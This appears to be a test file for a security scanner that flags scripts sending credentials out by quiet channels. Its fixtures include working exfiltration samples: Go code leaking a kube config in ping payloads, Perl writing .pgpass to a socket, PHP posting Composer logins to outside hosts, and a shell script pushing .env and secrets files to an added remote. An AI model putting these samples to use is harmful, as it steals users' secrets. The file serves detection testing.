"""RT44 round (script exfiltration): quieter channels a bundled script sends credentials through,
each with a benign twin that must stay below high.

- ICMP echo payloads from a language's own library (Go's x/net/icmp `ListenPacket`, a raw
  `ip4:icmp` socket) are a raw channel: a credential store read near one leaves in the pings.
- libpq's password file (`~/.pgpass`, `PGPASSFILE`) is a credential store: beside a raw socket or
  an HTTP client it leaves; read for a database driver's connect (DBI, psycopg) it stays home.
- Composer's home folder (`COMPOSER_HOME`, `.composer/auth.json`) holds its auth.json logins; PHP's
  HTTP through a stream context or curl_* is an outbound sink to the URL hosts the file names, and
  Packagist or a forge is the logins' own home; Packagist is a brand, so a host borrowing its name is a
  look-alike, not its home.
- A shell script that puts secret files (`.env`, `secrets.yml`) into a commit and pushes the
  repository to a remote it adds itself sends the secrets with the code: high, where a push of
  built files to a hard-coded remote stays medium.
"""
from __future__ import annotations

from scanner.models import Severity
from script_helpers import top

# -- Go: ICMP echo payloads ---------------------------------------------------------------------
_GO_PING_LEAK = '''package main

import (
	"net"
	"os"
	"path/filepath"

	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
)

func main() {
	dir, _ := os.UserHomeDir()
	data, _ := os.ReadFile(filepath.Join(dir, ".kube", "config"))
	conn, err := icmp.ListenPacket("ip4:icmp", "0.0.0.0")
	if err != nil {
		return
	}
	peer := &net.IPAddr{IP: net.ParseIP("198.51.100.9")}
	for i := 0; i*256 < len(data); i++ {
		part := data[i*256 : min(len(data), (i+1)*256)]
		msg := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{ID: 7, Seq: i, Data: part}}
		wire, _ := msg.Marshal(nil)
		conn.WriteTo(wire, peer)
	}
}
'''
_GO_PING_PROBE = '''package main

import (
	"fmt"
	"net"

	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
)

func main() {
	conn, err := icmp.ListenPacket("ip4:icmp", "0.0.0.0")
	if err != nil {
		fmt.Println("no raw socket; skipping latency probe")
		return
	}
	msg := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{ID: 1, Seq: 1, Data: []byte("probe")}}
	wire, _ := msg.Marshal(nil)
	conn.WriteTo(wire, &net.IPAddr{IP: net.ParseIP("10.0.0.1")})
	fmt.Println("probe sent")
}
'''


def test_go_credential_file_in_icmp_echo_payloads_is_high():
    assert top("cmd/probe/main.go", _GO_PING_LEAK, "IG703") >= Severity.HIGH


def test_go_latency_probe_with_a_fixed_payload_stays_quiet():
    assert (top("cmd/probe/main.go", _GO_PING_PROBE, "IG703") or Severity.INFO) < Severity.HIGH


# -- Perl: the libpq password file --------------------------------------------------------------
_PERL_PGPASS_SOCKET = '''#!/usr/bin/env perl
use strict; use warnings;
use IO::Socket::INET;
my $file = $ENV{PGPASSFILE} || "$ENV{HOME}/.pgpass";
open(my $in, '<', $file) or exit 0;
my $all = join('', <$in>);
my $conn = IO::Socket::INET->new(PeerAddr => 'db-health.example-ops.net', PeerPort => 6432, Proto => 'tcp');
print $conn $all if $conn;
'''
_PERL_PGPASS_DBI = '''#!/usr/bin/env perl
use strict; use warnings;
use DBI;
my $secret = '';
open(my $in, '<', "$ENV{HOME}/.pgpass") or die "no password file";
while (my $row = <$in>) { chomp $row; my @p = split /:/, $row; $secret = $p[4] if $p[0] eq 'localhost'; }
my $db = DBI->connect("dbi:Pg:dbname=reports;host=localhost", 'reports', $secret, { RaiseError => 1 });
print "connected\\n";
'''


def test_perl_password_file_written_to_a_raw_socket_is_high():
    assert top("tools/check-db.pl", _PERL_PGPASS_SOCKET, "IG703") >= Severity.HIGH


def test_perl_password_file_used_for_a_local_dbi_connect_stays_quiet():
    assert top("tools/check-db.pl", _PERL_PGPASS_DBI, "IG703") is None


# -- PHP: Composer's auth.json ------------------------------------------------------------------
_PHP_COMPOSER_LEAK = '''<?php
$dir = getenv('COMPOSER_HOME') ?: getenv('HOME') . '/.composer';
$logins = is_file($dir . '/auth.json') ? file_get_contents($dir . '/auth.json') : '';
$ch = curl_init('https://ingest.pkg-metrics.dev/v2');
curl_setopt($ch, CURLOPT_POST, true);
curl_setopt($ch, CURLOPT_POSTFIELDS, $logins);
curl_exec($ch);
'''
_PHP_COMPOSER_HOME = '''<?php
$dir = getenv('COMPOSER_HOME') ?: getenv('HOME') . '/.composer';
$auth = json_decode(@file_get_contents($dir . '/auth.json') ?: '{}', true);
$token = $auth['http-basic']['repo.packagist.com']['password'] ?? '';
$ctx = stream_context_create(['http' => ['header' => "Authorization: Bearer $token\\r\\n"]]);
echo file_get_contents('https://repo.packagist.com/acme/packages.json', false, $ctx);
'''


def test_php_composer_logins_posted_to_another_host_is_high():
    assert top("bin/stats.php", _PHP_COMPOSER_LEAK, "IG703") >= Severity.HIGH


def test_php_composer_logins_to_a_host_borrowing_packagists_name_is_high():
    text = _PHP_COMPOSER_LEAK.replace("ingest.pkg-metrics.dev/v2", "api.packagist-status.io/v2")
    assert top("bin/stats.php", text, "IG703") >= Severity.HIGH


def test_php_composer_login_sent_to_packagist_stays_quiet():
    assert (top("bin/stats.php", _PHP_COMPOSER_HOME, "IG703") or Severity.INFO) < Severity.HIGH


# -- shell: secret files committed, then pushed to a remote the script adds --------------------
_SH_SECRETS_PUSHED = '''#!/bin/sh
set -e
git checkout -q -b snapshot
git add --force .env config/secrets.yml
git commit -qm snapshot
git remote add vault https://git.archive-store.example/keep/app.git
git push -q vault snapshot
'''
_SH_PAGES_PUSHED = '''#!/bin/sh
set -e
npm run build
git checkout -q -b pages
git add --force dist
git commit -qm "site build"
git remote add pages https://git.example.org/web/site.git
git push -q pages pages
'''


def test_secret_files_committed_and_pushed_to_a_hardcoded_remote_is_high():
    assert top("scripts/snapshot.sh", _SH_SECRETS_PUSHED, "IG713") >= Severity.HIGH


def test_built_files_pushed_to_a_hardcoded_remote_stays_medium():
    assert top("scripts/pages.sh", _SH_PAGES_PUSHED, "IG713") == Severity.MEDIUM
